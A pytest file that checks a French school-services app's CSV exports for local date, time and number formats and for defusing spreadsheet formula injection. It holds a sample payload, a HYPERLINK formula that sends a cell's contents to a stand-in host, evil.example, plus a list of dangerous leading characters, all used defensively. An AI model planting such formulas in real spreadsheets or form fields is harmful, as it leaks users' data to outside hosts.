"""CSV exports in French: dates dd/mm/yyyy, Paris local times, words instead of codes,
decimal commas; and a cell a parent typed as a formula is never run by the spreadsheet."""
import csv
import io
from datetime import date, datetime
from decimal import Decimal

from sqlalchemy import select

from blueprints.admin.exports import csv_cell
from extensions import db
from models import ChangeRequest, Request, RequestLine
from models.clock import to_paris
from tests.family_helpers import edit, family, form_data
from tests.helpers import activity, child, login, page, upcoming_day

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


def rows_of(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")),
                           delimiter=";"))


def decide(client, change, decision):
    action = f"/admin/modifications/{change.id}/decision"
    data = form_data(page(client, "/admin/modifications"), action=action)
    data["decision"] = decision
    data["comment"] = ""
    return client.post(action, data=data)


def test_a_formula_typed_by_a_parent_is_defused_in_familles_csv(parent_client, other_client,
                                                                demo):
    assert edit(parent_client, "/ma-famille/adresse/modifier",
                {"address_line": FORMULA, "postal_code": "44680",
                 "city": "@SUM(1+1)"}).status_code == 302
    login(other_client, *demo.AGENT)
    for change in db.session.scalars(select(ChangeRequest).where(
            ChangeRequest.status == "pending", ChangeRequest.field.in_(
                ("address_line", "city")))).all():
        assert decide(other_client, change, "approve").status_code == 302
    assert family("MARTIN").address_line == FORMULA

    rows = rows_of(other_client.get("/admin/exports/familles.csv"))
    lea = next(row for row in rows if row[5] == "Léa MARTIN")
    assert lea[1] == "'" + FORMULA and lea[3] == "'@SUM(1+1)"
    assert lea[6] == child("Léa").birth_date.strftime("%d/%m/%Y")


def test_every_cell_is_written_as_a_french_reader_expects(app):
    with app.test_request_context():
        assert csv_cell(True) == "Oui" and csv_cell(False) == "Non"
    assert csv_cell(date(2026, 12, 3)) == "03/12/2026"
    assert csv_cell(datetime(2026, 7, 1, 6, 5)) == "01/07/2026 08:05"  # summer: UTC+2
    assert csv_cell(datetime(2026, 12, 1, 23, 30)) == "02/12/2026 00:30"  # winter: UTC+1
    assert csv_cell(Decimal("1234.56")) == "1234,56" and csv_cell(2.5) == "2,5"
    assert csv_cell(-3) == "-3" and csv_cell(None) == ""
    for dangerous in ("=1+1", "+33 6 12", "-2+3", "@cmd", "\tx", "\rx"):
        assert csv_cell(dangerous) == "'" + dangerous
    assert csv_cell("Léa") == "Léa"


def test_requests_csv_says_words_dates_and_paris_times(agent_client, planning):
    canteen = activity("Restauration scolaire")
    day = upcoming_day(canteen, days_ahead=5)
    lea = child("Léa")
    sent = datetime(day.year, day.month, 1, 23, 30)  # UTC: the next day in Paris
    request = Request(family_id=lea.family_id, submitted_at=sent, action="reserve")
    db.session.add(request)
    db.session.flush()
    db.session.add_all([
        RequestLine(request_id=request.id, child_id=lea.id, activity_id=canteen.id, day=day,
                    action="reserve", outcome="refused", reason="late"),
        RequestLine(request_id=request.id, child_id=lea.id, activity_id=canteen.id,
                    day=day.replace(day=1), action="reserve", outcome="accepted")])
    db.session.commit()
    rows = rows_of(agent_client.get(f"/admin/exports/demandes.csv?mois={day:%Y-%m}"))
    assert rows[0][0] == "Envoyée le"
    refused = next(row for row in rows[1:] if row[4] == day.strftime("%d/%m/%Y"))
    assert refused[0] == to_paris(sent).strftime("%d/%m/%Y %H:%M")  # 00:30 or 01:30 (DST)
    assert refused[0].startswith(f"02/{day:%m/%Y} 0")
    assert refused[5:8] == ["Réservation", "Refusée", "Hors délai"]
    accepted = next(row for row in rows[1:] if row[6] == "Acceptée")
    assert accepted[7] == ""


def test_attendance_and_meals_csv_write_months_and_days_the_french_way(agent_client,
                                                                       planning):
    day = upcoming_day(activity("Restauration scolaire"), days_ahead=3)
    rows = rows_of(agent_client.get(f"/admin/exports/presences.csv?mois={day:%Y-%m}"))
    assert all(row[0] == f"{day:%m/%Y}" for row in rows[1:]) and len(rows) > 1
    rows = rows_of(agent_client.get(f"/admin/repas?depuis={day.isoformat()}&jours=1&format=csv"))
    assert rows[1][0] == day.strftime("%d/%m/%Y")
